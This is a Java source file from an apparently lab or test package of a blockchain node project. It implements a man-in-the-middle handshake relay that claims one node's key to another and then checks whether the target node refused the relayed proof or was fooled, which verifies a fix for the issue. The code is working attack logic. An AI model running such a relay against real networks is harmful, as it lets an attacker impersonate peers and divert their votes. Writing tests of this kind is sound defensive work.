package org.lpos.lab.attack;

import com.google.protobuf.ByteString;
import io.grpc.ManagedChannel;
import io.grpc.Status;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.lpos.chain.crypto.Hex;
import org.lpos.node.net.ClientTls;
import org.lpos.node.net.NodeChannels;
import org.lpos.proto.v1.ConnectedPeer;
import org.lpos.proto.v1.GetPeersRequest;
import org.lpos.proto.v1.Hello;
import org.lpos.proto.v1.HelloProof;
import org.lpos.proto.v1.NodeGrpc;

/**
 * The handshake relay of issue 14: an adversary M (it needs no key of its own) opens a Peer stream to A and
 * one to B, takes A's challenge from A's Hello, sends B a Hello claiming A's key with that
 * challenge, lets B sign its proof, then sends A a Hello claiming B's key (with B's challenge)
 * and hands A the proof B signed. Before the channel-bound handshake A verified that proof and
 * took M for B, so B's votes went to M. Now the proof names the signer's role, both challenges
 * and the TLS certificates of B's session with M, and A refuses it.
 *
 * <p>M announces {@link #RELAY_ADDRESS} in its Hello to A, so A's {@code GetPeers} shows whether A
 * took M's stream for B's: B's key at that address means impersonated.
 */
public final class HandshakeRelayAttack {
  /** The listening address the relay announces to A (nothing listens there). */
  public static final String RELAY_ADDRESS = "127.0.0.1:9";

  /** What A made of the relayed proof. */
  public enum Verdict {
    /** A closed the relay's stream: the proof did not verify. */
    REFUSED,
    /** A lists B's key at the relay's address: it took the relay for B. */
    IMPERSONATED,
    /** Neither within the time allowed. */
    UNDECIDED
  }

  /**
   * The attack's result.
   *
   * @param verdict what A did
   * @param victimKey B's key, the one claimed to A
   * @param detail A's closing status, or what its peer list showed
   */
  public record Outcome(Verdict verdict, ByteString victimKey, String detail) {
    /** One line for an operator. */
    public String describe() {
      return "handshake-relay: " + verdict + " (claimed " + Hex.shortForm(victimKey) + " to A): " + detail;
    }
  }

  private HandshakeRelayAttack() {}

  /**
   * Runs the relay once between the nodes at {@code nodeA} and {@code nodeB} (host:port of their
   * gRPC ports), dialling with {@code tls}, and waits up to {@code timeoutMs} for A's verdict.
   */
  public static Outcome run(String nodeA, String nodeB, ClientTls tls, long timeoutMs) throws InterruptedException {
    ManagedChannel toA = NodeChannels.open(nodeA, tls);
    ManagedChannel toB = NodeChannels.open(nodeB, tls);
    RawPeerStream streamA = null;
    RawPeerStream streamB = null;
    try {
      long deadline = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(timeoutMs);
      streamA = new RawPeerStream(toA);
      Hello helloA = streamA.awaitHello(timeoutMs);
      streamB = new RawPeerStream(toB);
      Hello helloB = streamB.awaitHello(timeoutMs);
      // To B: "I am A", with A's challenge, so B signs a proof for A's challenge.
      streamB.send(Hello.newBuilder().setPublicKey(helloA.getPublicKey()).setChainId(helloB.getChainId())
          .setGenesisHash(helloB.getGenesisHash()).setChallenge(helloA.getChallenge()).build());
      HelloProof signedByB = streamB.awaitProof(timeoutMs);
      // To A: "I am B", with B's challenge, then B's proof.
      streamA.send(Hello.newBuilder().setPublicKey(helloB.getPublicKey()).setChainId(helloA.getChainId())
          .setGenesisHash(helloA.getGenesisHash()).setChallenge(helloB.getChallenge()).setAddress(RELAY_ADDRESS)
          .build());
      streamA.send(signedByB);
      return verdict(streamA, NodeGrpc.newBlockingStub(toA), helloB.getPublicKey(), deadline);
    } finally {
      if (streamA != null) {
        streamA.cancel();
      }
      if (streamB != null) {
        streamB.cancel();
      }
      toA.shutdownNow();
      toB.shutdownNow();
    }
  }

  private static Outcome verdict(RawPeerStream streamA, NodeGrpc.NodeBlockingStub apiA, ByteString victim,
      long deadlineNanos) throws InterruptedException {
    while (System.nanoTime() < deadlineNanos) {
      Optional<Status> closed = streamA.closedWithin(100);
      if (closed.isPresent()) {
        return new Outcome(Verdict.REFUSED, victim, "A closed the stream: " + closed.get().getCode() + " "
            + closed.get().getDescription());
      }
      List<ConnectedPeer> peers = apiA.withDeadlineAfter(5, TimeUnit.SECONDS)
          .getPeers(GetPeersRequest.getDefaultInstance()).getPeersList();
      for (ConnectedPeer p : peers) {
        if (p.getPublicKey().equals(victim) && p.getAddress().equals(RELAY_ADDRESS)) {
          return new Outcome(Verdict.IMPERSONATED, victim, "A lists B's key at the relay's address " + RELAY_ADDRESS);
        }
      }
    }
    return new Outcome(Verdict.UNDECIDED, victim, "A neither refused nor listed the relay as B");
  }
}
